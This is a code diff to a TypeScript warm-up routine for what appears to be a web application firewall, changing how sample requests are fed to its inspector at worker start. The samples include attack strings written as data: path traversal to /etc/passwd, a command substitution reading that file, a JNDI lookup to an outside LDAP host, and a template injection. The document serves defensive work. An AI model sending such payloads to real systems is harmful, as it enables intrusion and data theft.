@@ -1,5 +1,5 @@
-// Requests for nothing, before the first visitor comes: a rule's patterns and the tables that find its words are made
-// when they are first needed, which would be half a second for the first visitor.
+// Requests for nothing, right after a worker has started: a rule's patterns and the tables that find its words are made
+// when they are first needed, which would be half a second for the first visitor who sends something odd.
 
 import type { InspectedRequest, Inspector } from '@parapet/kinds';
 
@@ -19,21 +19,31 @@ const TEXTS: readonly string[] = [
   '../../../etc/passwd',
   '$(cat /etc/passwd) ${jndi:ldap://192.0.2.1/a} {{7*7}}',
 ];
-const ROUNDS = 1;
+/** Between two of them others are served. */
+const PAUSE_MS = 15;
 
-/** Asks the inspector about requests of every kind. */
+/** Asks the inspector about requests of every kind, one after the other, while the worker serves already. */
 export function rehearse(inspector: Inspector): void {
-  for (let round = 0; round < ROUNDS; round++) {
-    for (const text of TEXTS) {
-      const value = encodeURIComponent(`${text} ${round}`);
-      const part = `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--b--\r\n`;
-      inspector.inspect(requestOf('GET', `/search/node?keys=${value}&page=${round}`));
-      inspector.inspect(requestOf('POST', '/contact', FORM, `a=${value}&form_id=contact_form`));
-      inspector.inspect(requestOf('POST', '/api', 'application/json', JSON.stringify({ a: [text] })));
-      inspector.inspect(requestOf('POST', '/media/add', 'multipart/form-data; boundary=b', part));
-      inspector.inspect(requestOf('POST', '/soap', 'text/xml', `<a b="1">${value}</a>`));
-    }
-  }
+  const requests = TEXTS.flatMap(requestsWith);
+  const next = (): void => {
+    const request = requests.shift();
+    if (request === undefined) return;
+    inspector.inspect(request);
+    setTimeout(next, PAUSE_MS).unref();
+  };
+  setTimeout(next, PAUSE_MS).unref();
+}
+
+function requestsWith(text: string): readonly InspectedRequest[] {
+  const value = encodeURIComponent(text);
+  const part = `--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n${text}\r\n--b--\r\n`;
+  return [
+    requestOf('GET', `/search/node?keys=${value}&page=1`),
+    requestOf('POST', '/contact', FORM, `a=${value}&form_id=contact_form`),
+    requestOf('POST', '/api', 'application/json', JSON.stringify({ a: [text] })),
+    requestOf('POST', '/media/add', 'multipart/form-data; boundary=b', part),
+    requestOf('POST', '/soap', 'text/xml', `<a b="1">${value}</a>`),
+  ];
 }
 
 function requestOf(method: string, rawTarget: string, type = '', body = ''): InspectedRequest {
